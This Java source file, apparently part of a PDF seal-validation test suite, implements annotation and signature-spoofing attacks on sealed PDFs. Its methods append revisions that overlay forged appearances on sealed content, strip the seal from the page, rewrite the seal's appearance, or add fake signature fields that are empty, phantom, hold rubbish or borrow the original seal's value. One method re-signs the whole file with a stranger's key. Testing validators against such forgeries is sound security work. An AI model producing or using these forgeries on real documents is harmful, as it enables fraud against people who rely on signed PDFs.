package cn.sidian.seal.attack;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Locale;
import java.util.Objects;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;

/** EAA and SSA: annotations and signature fields that lie over what was sealed. */
final class Annotations {
  private static final int HOLE = 16_000;

  private Annotations() {}

  static Maker annotation(String subtype, String more) {
    return file -> {
      Revision revision = new Revision(file);
      String shown = revision.add(Forged.form());
      String annotation =
          revision.add(
              "<</Type/Annot/Subtype/"
                  + subtype
                  + Forged.COVER
                  + "/AP<</N "
                  + shown
                  + ">>"
                  + more
                  + ">>");
      return Forged.annotation(revision, annotation).bytes();
    };
  }

  static byte[] sealTakenOffThePage(SealedFile file) {
    return new Revision(file).with(file.page(), "Annots", "[]").bytes();
  }

  /** The seal shows something else. */
  static byte[] appearanceOfTheSeal(SealedFile file) {
    Revision revision = new Revision(file);
    String shown = revision.add(Forged.form());
    COSDictionary changed = new COSDictionary(file.field());
    changed.removeItem(COSName.AP);
    changed.removeItem(COSName.RECT);
    String text = Revision.text(changed);
    return revision
        .put(
            file.field(),
            text.substring(0, text.lastIndexOf(">>"))
                + "/Rect[0 0 5000 5000]/AP<</N "
                + shown
                + ">>>>")
        .bytes();
  }

  private static String signatureField(Revision revision, String value) {
    String shown = revision.add(Forged.form());
    String field =
        revision.add(
            "<</Type/Annot/Subtype/Widget/FT/Sig/T(Sneaky)"
                + Forged.COVER
                + "/P "
                + Forged.page(revision.file())
                + "/AP<</N "
                + shown
                + ">>"
                + value
                + ">>");
    Forged.field(revision, field);
    Forged.annotation(revision, field);
    return field;
  }

  static byte[] emptyField(SealedFile file) {
    Revision revision = new Revision(file);
    signatureField(revision, "");
    return revision.bytes();
  }

  static byte[] fieldWithRubbish(SealedFile file) {
    Revision revision = new Revision(file);
    String value =
        revision.add(
            "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Contents<00>"
                + "/ByteRange[0 1 2 3]>>");
    signatureField(revision, "/V " + value);
    return revision.bytes();
  }

  /** A new field shows something, and borrows the value of the seal. */
  static byte[] recycled(SealedFile file) {
    if (!file.isSignatureIndirect()) {
      return copied(file);
    }
    Revision revision = new Revision(file);
    signatureField(revision, "/V " + Forged.reference(file.signature()));
    return revision.bytes();
  }

  static byte[] copied(SealedFile file) {
    Revision revision = new Revision(file);
    String value = revision.add(CosText.of(file.signature()));
    signatureField(revision, "/V " + value);
    return revision.bytes();
  }

  static byte[] phantom(SealedFile file) {
    Revision revision = new Revision(file);
    signatureField(revision, "/V " + (file.freeNumber() + 999) + " 0 R");
    return revision.bytes();
  }

  /** An empty field that was there gets the value of the seal. */
  static byte[] intoEmptyField(SealedFile file) {
    for (PDSignatureField field : file.fields()) {
      COSDictionary candidate = field.getCOSObject();
      if (candidate.getDictionaryObject(COSName.V) == null && candidate.getKey() != null) {
        String value =
            file.isSignatureIndirect()
                ? Forged.reference(file.signature())
                : Revision.text(file.signature());
        return new Revision(file).with(candidate, "V", value).bytes();
      }
    }
    return recycled(file);
  }

  /** A stranger signs the whole file anew, with a field that covers the page. */
  static byte[] signedByStranger(SealedFile file) {
    String hole = "<" + "0".repeat(HOLE) + ">";
    String range = "[0 0000000000 0000000000 0000000000]";
    Revision revision = new Revision(file);
    String value =
        revision.add(
            "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange"
                + range
                + "/Contents"
                + hole
                + ">>");
    signatureField(revision, "/V " + value);
    byte[] pdf = revision.bytes();
    int start = Bytes.lastIndexOf(pdf, hole);
    int end = start + hole.length();
    String right =
        String.format(Locale.ROOT, "[0 %010d %010d %010d]", start, end, pdf.length - end);
    byte[] numbers = CosText.latin1(right);
    System.arraycopy(numbers, 0, pdf, Bytes.lastIndexOf(pdf, range), numbers.length);
    ByteArrayOutputStream signed = new ByteArrayOutputStream();
    signed.write(pdf, 0, start);
    signed.writeBytes(Arrays.copyOfRange(pdf, end, pdf.length));
    String hex = HexFormat.of().formatHex(Stranger.sign(signed.toByteArray()));
    byte[] digits = CosText.latin1(Objects.requireNonNull(hex));
    System.arraycopy(digits, 0, pdf, start + 1, digits.length);
    return pdf;
  }
}
